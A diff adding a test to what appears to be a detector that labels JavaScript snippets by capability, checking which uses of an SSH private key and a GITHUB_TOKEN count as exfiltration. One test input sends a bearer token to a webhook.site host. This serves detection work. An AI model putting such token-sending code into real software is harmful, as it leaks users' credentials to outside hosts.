@@ -221,6 +221,14 @@ def test_a_member_of_its_own_is_not_what_is_assigned_to_it() -> None:
     assert names('const http = require("http"); agent.request = http.request') == {"network"}
 
 
+def test_the_key_of_a_server_and_the_token_of_a_request_are_not_sent_away() -> None:
+    key = 'const key = require("fs").readFileSync(home + "/.ssh/id_rsa");'
+    assert "exfiltration" not in names(key + ' require("https").createServer({key}, () => {})')
+    token = "{headers: {Authorization: `Bearer ${process.env.GITHUB_TOKEN}`}}"
+    assert "exfiltration" not in names(f'fetch("https://api.example/x", {token})')
+    assert "exfiltration" in names(f'fetch("https://a.webhook.site/x", {token})')
+
+
 def test_typescript_is_read_with_its_types() -> None:
     code = """
 import { exec, type ExecOptions } from "child_process";
